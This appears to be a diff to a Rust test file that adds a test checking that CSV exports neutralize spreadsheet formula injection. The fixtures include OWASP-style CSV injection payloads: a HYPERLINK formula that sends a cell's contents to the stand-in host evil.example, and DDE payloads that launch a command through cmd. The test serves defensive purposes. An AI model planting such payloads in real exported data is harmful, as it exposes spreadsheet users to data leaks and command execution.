@@ -5,9 +5,9 @@
 use serde_json::{json, Map, Value};
 use trialogue::core::config::Mode;
 use trialogue::core::stats::{
-    csv_field, disagreements, problem_rows, rows_to_csv, rows_to_json, summarize, wilson_interval,
-    Dynamics, IterationPassRate, ModeStats, PairedComparison, ProblemRow, Proportion, RunResult,
-    Z_95,
+    csv_field, disagreements, neutralize_formula, problem_rows, rows_to_csv, rows_to_json,
+    summarize, wilson_interval, Dynamics, IterationPassRate, ModeStats, PairedComparison,
+    ProblemRow, Proportion, RunResult, Z_95,
 };
 use trialogue::core::trajectory::{RunRecord, RunStatus, StepMetadata, TrajectoryEntry};
 
@@ -505,10 +505,54 @@ fn rows_export_as_rfc4180_csv_and_json() {
     );
     assert_eq!(csv_field("a\rb"), "\"a\rb\"");
 
-    let parsed: Value = serde_json::from_str(&rows_to_json(&[row])).unwrap();
+    let parsed: Value = serde_json::from_str(&rows_to_json(std::slice::from_ref(&row))).unwrap();
     assert_eq!(parsed[0]["ground_truth"], json!("say \"x\"\nthen y"));
     assert_eq!(parsed[0]["mode"], json!("debate"));
     assert_eq!(parsed[0]["verifier_passed"], Value::Null);
     assert_eq!(parsed[0]["cost_usd"], json!(0.0125));
     assert_eq!(parsed[0].as_object().unwrap().len(), 15);
+}
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_are_neutralized() {
+    // OWASP's CSV injection payloads, in the columns that come from a dataset or a model.
+    let row = ProblemRow {
+        problem_id: "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")".into(),
+        mode: Mode::Debate,
+        run_id: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
+        status: RunStatus::Completed,
+        ground_truth: Some("-3".into()),
+        final_answer: Some("+1+cmd|' /C calc'!A0".into()),
+        correct: Some(false),
+        judge_score: Some(-0.0),
+        verifier_passed: None,
+        iterations: 1,
+        circular: false,
+        right_to_wrong: 0,
+        wrong_to_right: 0,
+        cost_usd: Some(-0.5),
+        cost_complete: true,
+    };
+    let csv = rows_to_csv(std::slice::from_ref(&row));
+    let line = csv.split("\r\n").nth(1).unwrap();
+    assert_eq!(
+        line,
+        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",debate,\
+         '@SUM(1+1)*cmd|' /C calc'!A0,completed,-3,'+1+cmd|' /C calc'!A0,false,-0,,1,false,0,0,\
+         -0.5,true"
+    );
+    for (cell, shown) in [
+        ("-1+2", "'-1+2"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("@x", "'@x"),
+        ("a=b", "a=b"),
+        ("-12.5", "-12.5"),
+        ("+4e-3", "+4e-3"),
+    ] {
+        assert_eq!(neutralize_formula(cell), shown, "{cell:?}");
+    }
+    // The JSON export keeps the values as they are.
+    let parsed: Value = serde_json::from_str(&rows_to_json(&[row])).unwrap();
+    assert_eq!(parsed[0]["final_answer"], json!("+1+cmd|' /C calc'!A0"));
 }
